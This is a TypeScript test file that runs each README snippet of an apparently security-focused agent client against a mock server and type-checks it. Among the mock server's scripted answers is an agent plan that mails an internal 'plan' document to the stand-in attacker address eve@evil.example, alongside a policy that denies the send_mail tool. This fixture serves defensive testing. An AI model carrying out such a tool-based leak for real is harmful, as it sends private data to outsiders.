import { execFile, execFileSync } from "node:child_process";
import { mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { fileURLToPath } from "node:url";
import { promisify } from "node:util";
import { afterAll, beforeAll, expect, test } from "vitest";
import { key, startServerWith, type TestServer } from "./integrations/server.ts";

/** Every snippet of the README runs as it stands there, against a real server, and prints what the README says. */

const readme = readFileSync(new URL("../README.md", import.meta.url), "utf8");
const workspace = fileURLToPath(new URL("../../..", import.meta.url));
const shared = /```ts client\.ts\n([\s\S]*?)```/.exec(readme)?.[1] ?? "";
const snippets = [
  ...readme.matchAll(/\n## ([^\n]+)\n(?:(?!\n## )[\s\S])*?```ts\n([\s\S]*?)```\n\n```text\n([\s\S]*?)```/g),
].map(([, title = "", code = "", printed = ""]) => ({ title, code, printed }));

const plan = (source: string) => `\`\`\`python\n${source}\n\`\`\``;
const mailTo = (address: string) => ({
  last_user: `Mail the plan to ${address}`,
  answer: plan(`send_mail(to="${address}", body=get_document(name="plan"))\nfinal_return_value = "Done."`),
});

let server: TestServer;
let folder: string;
beforeAll(async () => {
  server = await startServerWith([
    mailTo("bob@example.org"),
    mailTo("eve@evil.example"),
    { when: "Nothing leaves", answer: '```sqrt\ntool "send_mail" {\n  hard deny always;\n}\n```' },
    { last_user: "again", answer: "Again." },
    { last_user: "Hello", answer: "Hello to you." },
  ]);
  folder = mkdtempSync(join(tmpdir(), "sequrity-readme-"));
  symlinkSync(join(workspace, "node_modules"), join(folder, "node_modules"));
  writeFileSync(join(folder, "package.json"), '{"type": "module"}');
  writeFileSync(join(folder, "client.ts"), shared);
  for (const [index, { code }] of snippets.entries())
    writeFileSync(join(folder, `snippet-${index}.ts`), code);
});
afterAll(async () => {
  await server[Symbol.asyncDispose]();
  rmSync(folder, { recursive: true });
});

test("every snippet is found", () => {
  expect(shared).not.toBe("");
  expect(snippets.length).toBe(readme.match(/```ts\n/g)?.length);
});

test.each([...snippets.entries()].map(([index, snippet]) => ({ index, ...snippet })))(
  "$title",
  async ({ index, printed }) => {
    const { stdout } = await promisify(execFile)(process.execPath, [join(folder, `snippet-${index}.ts`)], {
      env: {
        ...process.env,
        SEQURITY_API_KEY: key,
        SEQURITY_URL: server.url,
        NODE_OPTIONS: "",
        NO_COLOR: "1",
      },
    });
    expect(stdout).toBe(printed);
  },
  60_000,
);

test("the snippets have no type errors", () => {
  const options = {
    extends: join(workspace, "tsconfig.base.json"),
    compilerOptions: { typeRoots: [join(workspace, "node_modules/@types")] },
    include: ["*.ts"],
  };
  writeFileSync(join(folder, "tsconfig.json"), JSON.stringify(options));
  const compiler = join(workspace, "node_modules/typescript/bin/tsc");
  let found = "";
  try {
    execFileSync(process.execPath, [compiler, "-p", folder], { encoding: "utf8" });
  } catch (error) {
    found = error instanceof Error && "stdout" in error ? String(error.stdout) : String(error);
  }
  expect(found).toBe("");
}, 60_000);
